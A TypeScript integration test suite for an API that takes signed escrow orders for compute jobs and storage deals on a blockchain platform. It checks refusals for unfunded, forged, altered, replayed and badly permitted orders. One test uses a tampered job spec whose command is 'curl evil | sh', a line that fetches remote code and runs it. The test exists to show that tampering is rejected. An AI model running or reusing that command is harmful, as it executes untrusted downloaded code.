import { WorkflowNotFoundError, type Client } from '@temporalio/client';
import type { TRPCError } from '@trpc/server';
import { AbiCoder, concat, formatUnits, keccak256, MaxUint256, Signature, toUtf8Bytes, TypedDataEncoder, Wallet } from 'ethers';
import type { OpenAPIV3 } from 'openapi-types';
import { randomUUID } from 'node:crypto';
import { signJobQuote, type OrderQuote, type TypedDataQuote } from '../api/order-signing';
import { signRequest } from '../api/signing';
import { connectJobEscrow, connectZansocToken } from '../contracts/bindings';
import { createProvider } from '../contracts/provider';
import type { Database } from '../db/client';
import { jobSpecSchema } from '../domain/job-spec';
import { chainJobId, dealOrderAmount, escrowIdOf, NO_PERMIT, specHash, type JobOrder, type PermitSignature } from '../domain/orders';
import { uploadBlob } from '../runtime/staging-client';
import { cidOf, ratePerHostPeriod } from '../domain/storage';
import { callerAs, CHAIN_ID, startApiServer, type ApiServer, type AppCaller } from './support/api-server';
import { TEST_CHAIN_KEYS } from './support/chain';
import { signedDealInput, signedJobInput } from './support/orders';

/**
 * The API takes a job or a deal only with the client's own signed order that buys exactly it, and money to pay for
 * it; every other order is refused with the status and the field that says why, before anything is created: no row,
 * no workflow. On a real chain (anvil, the contracts deployed) and a real Temporal server with no worker, so that an
 * accepted job just waits.
 */
const ZSC = 10n ** 18n;
/** Three replicas may grow to five: the order locks maxPrice × 5 slots = 5 ZSC. */
const spec = { image: 'zansoc/busybox:1', command: ['true'], replicas: 3, maxPrice: ZSC.toString() };
const chunk = Buffer.from('one encrypted chunk of a deal');
/** Two replicas for six periods of ten minutes. */
const dealSpec = {
  sizeBytes: chunk.length, chunks: [{ cid: cidOf(chunk), bytes: chunk.length }], replicas: 2, durationSeconds: 3600, proofPeriodSeconds: 600,
  pricePerGibMonth: (10n ** 30n).toString(),
};
/** As JobEscrow.sol hashes an order, written out here rather than taken from the API's types. */
const JOB_ORDER_TYPE = 'JobOrder(address client,bytes32 jobId,bytes32 specHash,uint256 pricePerSlot,uint8 slots,uint64 deadline,uint256 nonce)';
const EIP712_DOMAIN_TYPE = 'EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)';

type ErrorOverTrpc = { error: { message: string; data: { code: string; httpStatus: number } } };

const refusal = (p: Promise<unknown>) => p.then(() => { throw new Error('expected a refusal'); }, (err: unknown) => err as TRPCError);
const withoutDomainType = ({ EIP712Domain: _domain, ...types }: TypedDataQuote['types']) => types;

describe('API orders', () => {
  let server: ApiServer;
  let db: Database;
  let temporal: Client;
  const as = (client: Wallet): AppCaller => callerAs(server.deps, client);
  /** A new client with `zsc` ZSC and no allowance yet. */
  const client = async (zsc: string) => {
    const wallet = new Wallet(Wallet.createRandom().privateKey);
    if (zsc !== '0') await server.fund(wallet.address, zsc);
    return wallet;
  };
  const signOrder = (signer: Wallet, quote: OrderQuote, message: Record<string, unknown> = quote.order.message) =>
    signer.signTypedData(quote.order.domain, withoutDomainType(quote.order.types), message);
  const expectRefused = async (call: Promise<unknown>, code: TRPCError['code'], message: string | RegExp) => {
    const err = await refusal(call);
    expect({ code: err.code, message: err.message }).toEqual({ code, message: typeof message === 'string' ? message : expect.stringMatching(message) });
  };
  const expectNoJob = async (jobId: string) => {
    expect(await db.job.findUnique({ where: { id: jobId } })).toBeNull();
    await expect(temporal.workflow.getHandle(`job-${jobId}`).describe()).rejects.toBeInstanceOf(WorkflowNotFoundError);
  };
  const expectNoDeal = async (dealId: string) => {
    expect(await db.deal.findUnique({ where: { id: dealId } })).toBeNull();
    await expect(temporal.workflow.getHandle(`deal-${dealId}`).describe()).rejects.toBeInstanceOf(WorkflowNotFoundError);
  };
  const post = async (path: string, procedure: string, signer: Wallet, body: unknown) => {
    const res = await fetch(`${server.url}${path}`, {
      method: 'POST', headers: { 'content-type': 'application/json', ...(await signRequest(signer, CHAIN_ID, procedure, body)) }, body: JSON.stringify(body),
    });
    return { status: res.status, body: (await res.json()) as unknown };
  };

  let provider: ReturnType<typeof createProvider>;
  /** Opens a job's escrow on chain from its signed order, as the job's workflow does: the settler relays it. */
  const relay = async (signed: { order: JobOrder; signature: string; permit?: PermitSignature }) => {
    const escrow = connectJobEscrow(server.deployment.jobEscrow, new Wallet(TEST_CHAIN_KEYS.settler, provider));
    await (await escrow.openJobFor(signed.order, signed.signature, signed.permit ?? NO_PERMIT)).wait();
  };

  beforeAll(async () => {
    server = await startApiServer({ rateLimitPerMinute: 1_000_000 });
    ({ db, temporal } = server);
    provider = createProvider(server.rpcUrl);
    await server.deps.staging.put(chunk);
  }, 120_000);

  afterAll(async () => {
    provider?.destroy();
    await server?.stop();
  });

  describe('a client who cannot pay', () => {
    it('is refused a job with 402 saying what it has and what the job needs, over tRPC, /trpc and /api, and nothing is created', async () => {
      const broke = await client('0');
      const input = await signedJobInput(as(broke), broke, spec);
      const message = 'balance 0.0 ZSC < 5.0 ZSC needed for this job (maxPrice 1.0 ZSC × 5 slots)';
      await expectRefused(as(broke).jobs.submit(input), 'PAYMENT_REQUIRED', message);

      const overTrpc = await post('/trpc/jobs.submit', 'jobs.submit', broke, input);
      expect(overTrpc.status).toBe(402);
      expect((overTrpc.body as ErrorOverTrpc).error).toMatchObject({ message, data: { code: 'PAYMENT_REQUIRED', httpStatus: 402 } });
      const overApi = await post('/api/jobs', 'jobs.submit', broke, input);
      expect(overApi).toMatchObject({ status: 402, body: { message, code: 'PAYMENT_REQUIRED' } });
      await expectNoJob(input.jobId);
      expect(await db.job.count()).toBe(0);
    });

    it('is refused a deal with 402 the same way, and nothing is created', async () => {
      const broke = await client('0');
      const input = await signedDealInput(as(broke), broke, dealSpec);
      const amount = ratePerHostPeriod({ sizeBytes: chunk.length, pricePerGibMonth: 10n ** 30n, periodSeconds: 600 }) * 2n * 6n;
      expect(dealOrderAmount(input.order)).toBe(amount);
      const message = `balance 0.0 ZSC < ${formatUnits(amount, 18)} ZSC needed for this term (2 replica(s) × 6 period(s))`;
      await expectRefused(as(broke).storage.create(input), 'PAYMENT_REQUIRED', message);
      expect((await post('/api/deals', 'storage.create', broke, input)).status).toBe(402);
      await expectNoDeal(input.dealId);
    });
  });

  describe('an order that is not the caller\'s own', () => {
    it('is refused with 403 naming order.client when another key signed it for itself, over /api too, and nothing is created', async () => {
      const [alice, mallory] = await Promise.all([client('100'), client('100')]);
      const mallorys = await signedJobInput(as(mallory), mallory, spec);
      const message = `order.client: ${mallory.address} is not the caller ${alice.address}: sign the order with the key you call with`;
      await expectRefused(as(alice).jobs.submit(mallorys), 'FORBIDDEN', message);
      expect(await post('/api/jobs', 'jobs.submit', alice, mallorys)).toMatchObject({ status: 403, body: { message, code: 'FORBIDDEN' } });
      const doc = (await (await fetch(`${server.url}/openapi.json`)).json()) as OpenAPIV3.Document;
      expect(Object.keys(doc.paths['/jobs']!.post!.responses)).toContain('403');
      await expectNoJob(mallorys.jobId);

      const mallorysDeal = await signedDealInput(as(mallory), mallory, dealSpec);
      await expectRefused(as(alice).storage.create(mallorysDeal), 'FORBIDDEN', message);
      await expectNoDeal(mallorysDeal.dealId);
    });

    it('is refused with 400 naming signature when the client\'s order is signed by another key, or not signed at all', async () => {
      const alice = await client('100');
      const mallory = new Wallet(Wallet.createRandom().privateKey);
      const { jobId, quote } = await as(alice).jobs.quote({ spec });
      const signed = await signJobQuote(alice, spec, quote);
      await expectRefused(
        as(alice).jobs.submit({ spec, jobId, ...signed, signature: await signOrder(mallory, quote) }),
        'BAD_REQUEST', `signature: not the client's signature of this order (it recovers ${mallory.address})`,
      );
      await expectRefused(as(alice).jobs.submit({ spec, jobId, ...signed, signature: '0x1234' }), 'BAD_REQUEST', 'signature: not the client\'s signature of this order (it recovers no address)');
      await expectNoJob(jobId);

      const deal = await signedDealInput(as(alice), alice, dealSpec);
      const { quote: dealQuote } = await as(alice).storage.quote({ spec: dealSpec });
      const forged = await mallory.signTypedData(dealQuote.order.domain, withoutDomainType(dealQuote.order.types), deal.order);
      await expectRefused(as(alice).storage.create({ ...deal, signature: forged }), 'BAD_REQUEST', `signature: not the client's signature of this order (it recovers ${mallory.address})`);
      await expectNoDeal(deal.dealId);
    });
  });

  describe('an order that does not buy exactly this job or deal', () => {
    let alice: Wallet;
    beforeAll(async () => {
      alice = await client('100');
    });

    it('is refused with 400 naming order.specHash when the spec changed after the order was signed', async () => {
      const input = await signedJobInput(as(alice), alice, spec);
      await expectRefused(
        as(alice).jobs.submit({ ...input, spec: { ...spec, command: ['sh', '-c', 'curl evil | sh'] } }),
        'BAD_REQUEST', /^order\.specHash: the order was signed for another spec than this one \(0x[0-9a-f]{64}\)$/,
      );
      await expectNoJob(input.jobId);
      const deal = await signedDealInput(as(alice), alice, dealSpec);
      await expectRefused(as(alice).storage.create({ ...deal, spec: { ...dealSpec, replicas: 1 } }), 'BAD_REQUEST', /^order\.specHash: /);
      await expectNoDeal(deal.dealId);
    });

    it.each<[string, (order: JobOrder) => JobOrder, RegExp]>([
      ['pricePerSlot', (o) => ({ ...o, pricePerSlot: (ZSC / 2n).toString() }), /^order\.pricePerSlot: 500000000000000000 is not the spec's maxPrice 1000000000000000000$/],
      ['slots', (o) => ({ ...o, slots: 3 }), /^order\.slots: 3 is not the 5 slots this spec can use \(maxPrice 1\.0 ZSC × 5 slots\)$/],
      ['deadline', (o) => ({ ...o, deadline: Math.floor(Date.now() / 1000) + 3600 }), /^order\.deadline: \d+ is before the job may still settle \(\d+\); ask for a new quote$/],
      ['jobId', (o) => ({ ...o, jobId: keccak256(toUtf8Bytes('another job')) }), /^order\.jobId: 0x[0-9a-f]{64} is not job [0-9a-f-]{36} \(0x[0-9a-f]{64}\)$/],
    ])('is refused with 400 naming order.%s when the client signed other terms than the job\'s', async (_field, change, message) => {
      const { jobId, quote } = await as(alice).jobs.quote({ spec });
      const signed = await signJobQuote(alice, spec, quote);
      const order = change(signed.order);
      // Signed by the client itself: the terms are what is wrong, not the signature.
      await expectRefused(as(alice).jobs.submit({ spec, jobId, ...signed, order, signature: await signOrder(alice, quote, { ...order }) }), 'BAD_REQUEST', message);
      await expectNoJob(jobId);
    });

    it.each<[string, Record<string, unknown>, RegExp]>([
      ['ratePerHostPeriod', { ratePerHostPeriod: '1' }, /^order\.ratePerHostPeriod: 1 is not the deal's rate \d+$/],
      ['replicas', { replicas: 3 }, /^order\.replicas: 3 is not the deal's 2 replicas$/],
      ['periods', { periods: 5 }, /^order\.periods: 5 is not the term's 6 periods$/],
      ['deadline', { deadline: Math.floor(Date.now() / 1000) + 600 }, /^order\.deadline: \d+ is before the term may still be paid out \(\d+\); ask for a new quote$/],
    ])('is refused with 400 naming order.%s when the client signed other terms than the deal\'s', async (_field, change, message) => {
      const { dealId, quote } = await as(alice).storage.quote({ spec: dealSpec });
      const order = { ...quote.order.message, ...change };
      const signature = await signOrder(alice, quote, order);
      await expectRefused(as(alice).storage.create({ spec: dealSpec, dealId, order: order as never, signature }), 'BAD_REQUEST', message);
      await expectNoDeal(dealId);
    });
  });

  describe('a replayed order', () => {
    it('buys one job: under a new jobId it is refused, under its own jobId again it is 409, and only the first job exists', async () => {
      const alice = await client('100');
      const input = await signedJobInput(as(alice), alice, spec);
      const { job, created } = await as(alice).jobs.submit(input);
      expect([job.id, job.state, created]).toEqual([input.jobId, 'SUBMITTED', true]);
      expect((await db.job.findUniqueOrThrow({ where: { id: job.id } })).payer).toBe(alice.address);
      // With no orchestrator worker the workflow waits for its first task.
      const handle = temporal.workflow.getHandle(`job-${job.id}`);
      expect((await handle.describe()).status.name).toBe('RUNNING');

      const otherId = randomUUID();
      await expectRefused(as(alice).jobs.submit({ ...input, jobId: otherId }), 'BAD_REQUEST', new RegExp(`^order\\.jobId: ${input.order.jobId} is not job ${otherId} `));
      await expectNoJob(otherId);
      await expectRefused(as(alice).jobs.submit(input), 'CONFLICT', `jobId: job ${input.jobId} exists already; ask for a new quote`);
      expect(await db.job.count({ where: { payer: alice.address } })).toBe(1);
      await handle.terminate('test done');
    });

    it('is refused with 409 naming order once its escrow was opened on chain, even by a relayer the API never saw', async () => {
      const alice = await client('100');
      const input = await signedJobInput(as(alice), alice, spec);
      await relay(input);
      await expectRefused(as(alice).jobs.submit(input), 'CONFLICT', 'order: this job (maxPrice 1.0 ZSC × 5 slots) was escrowed already; an order is spent once');
      await expectNoJob(input.jobId);
    });

    it('buys one deal: its dealId again is 409', async () => {
      const alice = await client('100');
      const input = await signedDealInput(as(alice), alice, dealSpec);
      // A deal binds chunks its client staged: alice uploads the chunk, signed, as the CLI does.
      await uploadBlob(server.url, chunk, { auth: { signer: alice, chainId: CHAIN_ID } });
      expect((await as(alice).storage.create(input)).created).toBe(true);
      await expectRefused(as(alice).storage.create(input), 'CONFLICT', `dealId: deal ${input.dealId} exists already; ask for a new quote`);
      expect(await db.deal.count({ where: { payer: alice.address } })).toBe(1);
      await temporal.workflow.getHandle(`deal-${input.dealId}`).terminate('test done');
    });
  });

  describe('the permit', () => {
    /** `owner`'s signature of the quote's permit with `change` made to it. */
    const signPermit = async (owner: Wallet, quote: OrderQuote, change: Record<string, unknown>): Promise<PermitSignature> => {
      const message = { ...quote.permit!.message, ...change };
      const { v, r, s } = Signature.from(await owner.signTypedData(quote.permit!.domain, withoutDomainType(quote.permit!.types), message));
      return { value: String(message.value), deadline: Number(message.deadline), v, r, s };
    };

    it.each<[string, (deployment: ApiServer['deployment']) => Record<string, unknown>]>([
      ['another nonce', () => ({ nonce: '1' })],
      ['another spender', (deployment) => ({ spender: deployment.storageEscrow })],
    ])('is refused with 400 naming permit when signed for %s, and nothing is created', async (_case, change) => {
      const alice = await client('100');
      const { jobId, quote } = await as(alice).jobs.quote({ spec });
      const signed = await signJobQuote(alice, spec, quote);
      const permit = await signPermit(alice, quote, change(server.deployment));
      await expectRefused(
        as(alice).jobs.submit({ spec, jobId, ...signed, permit }),
        'BAD_REQUEST', `permit: not your signature of a permit for the escrow ${server.deployment.jobEscrow} with nonce 0`,
      );
      await expectNoJob(jobId);
    });

    it('is refused with 400 naming permit.value when it permits less than the order takes', async () => {
      const alice = await client('100');
      const { jobId, quote } = await as(alice).jobs.quote({ spec });
      const signed = await signJobQuote(alice, spec, quote);
      const permit = await signPermit(alice, quote, { value: ZSC.toString() });
      await expectRefused(as(alice).jobs.submit({ spec, jobId, ...signed, permit }), 'BAD_REQUEST', 'permit.value: 1.0 ZSC does not cover 5.0 ZSC');
      await expectNoJob(jobId);
    });

    it('is asked for with 402 naming permit from a client with neither allowance nor permit, for a job and for a deal', async () => {
      const alice = await client('100');
      const { permit: _job, ...job } = await signedJobInput(as(alice), alice, spec);
      await expectRefused(as(alice).jobs.submit(job), 'PAYMENT_REQUIRED', 'permit: the escrow may not take 5.0 ZSC from you yet: sign the permit the quote gives');
      await expectNoJob(job.jobId);
      const { permit: _deal, ...deal } = await signedDealInput(as(alice), alice, dealSpec);
      await expectRefused(as(alice).storage.create(deal), 'PAYMENT_REQUIRED', /^permit: the escrow may not take [0-9.]+ ZSC from you yet: sign the permit the quote gives$/);
      await expectNoDeal(deal.dealId);
    });
  });

  describe('jobs.quote', () => {
    it('gives the typed data JobEscrow hashes and verifies, maxPrice × slots, and no permit once the allowance covers it', async () => {
      const alice = await client('100');
      const { jobId, quote } = await as(alice).jobs.quote({ spec });
      expect(quote.order.domain).toEqual({ name: 'Zansoc JobEscrow', version: '1', chainId: CHAIN_ID, verifyingContract: server.deployment.jobEscrow });
      expect([quote.order.primaryType, quote.amount, quote.explanation, quote.balance]).toEqual(['JobOrder', (5n * ZSC).toString(), 'maxPrice 1.0 ZSC × 5 slots', (100n * ZSC).toString()]);
      const order = quote.order.message as unknown as JobOrder;
      expect(order).toMatchObject({ client: alice.address, jobId: chainJobId(jobId), specHash: specHash(jobSpecSchema.parse(spec)), pricePerSlot: ZSC.toString(), slots: 5, nonce: '0' });

      // The digest as the contract makes it: its domain as eip712Domain() reports it, the type as JobEscrow.sol writes it.
      const [, name, version, chainId, verifyingContract] = await connectJobEscrow(server.deployment.jobEscrow, provider).eip712Domain();
      expect([Number(chainId), verifyingContract]).toEqual([CHAIN_ID, server.deployment.jobEscrow]);
      const abi = AbiCoder.defaultAbiCoder();
      const hashed = (text: string) => keccak256(toUtf8Bytes(text));
      const domainSeparator = keccak256(abi.encode(['bytes32', 'bytes32', 'bytes32', 'uint256', 'address'], [hashed(EIP712_DOMAIN_TYPE), hashed(name), hashed(version), chainId, verifyingContract]));
      const structHash = keccak256(abi.encode(
        ['bytes32', 'address', 'bytes32', 'bytes32', 'uint256', 'uint8', 'uint64', 'uint256'],
        [hashed(JOB_ORDER_TYPE), order.client, order.jobId, order.specHash, order.pricePerSlot, order.slots, order.deadline, order.nonce],
      ));
      expect(TypedDataEncoder.hash(quote.order.domain, withoutDomainType(quote.order.types), quote.order.message)).toBe(keccak256(concat(['0x1901', domainSeparator, structHash])));

      expect(quote.permit).toMatchObject({
        domain: { chainId: CHAIN_ID, verifyingContract: server.deployment.token }, primaryType: 'Permit',
        message: { owner: alice.address, spender: server.deployment.jobEscrow, value: MaxUint256.toString(), nonce: '0' },
      });
      // The contract takes what the client signed from the quote: the settler relays it and the escrow pulls 5 ZSC.
      await relay({ ...(await signJobQuote(alice, spec, quote)) });
      expect(await connectZansocToken(server.deployment.token, provider).balanceOf(alice.address)).toBe(95n * ZSC);
      const again = await as(alice).jobs.quote({ spec });
      expect([again.quote.permit, again.quote.balance]).toEqual([null, (95n * ZSC).toString()]);
    });
  });

  describe('wallet.balance', () => {
    it('shows an open job\'s escrow as locked once it is open on chain', async () => {
      const alice = await client('100');
      const input = await signedJobInput(as(alice), alice, spec);
      await as(alice).jobs.submit(input);
      expect((await as(alice).wallet.balance()).locked).toEqual({ total: '0', jobs: [], deals: [] });
      // What the job's workflow does first, done by hand as no orchestrator worker runs here: relay the signed order.
      await relay(input);
      const balance = await as(alice).wallet.balance();
      expect(balance).toEqual({
        address: alice.address, did: `did:ethr:${CHAIN_ID}:${alice.address.toLowerCase()}`, zsc: (95n * ZSC).toString(),
        locked: { total: (5n * ZSC).toString(), jobs: [{ jobId: input.jobId, amount: (5n * ZSC).toString(), state: 'SUBMITTED' }], deals: [] },
      });
      expect(await connectJobEscrow(server.deployment.jobEscrow, provider).jobOf(escrowIdOf(alice.address, input.order.jobId))).toEqual(
        [alice.address, 5n * ZSC, ZSC, BigInt(input.order.deadline), 1n],
      );
      await temporal.workflow.getHandle(`job-${input.jobId}`).terminate('test done');
    });
  });
});
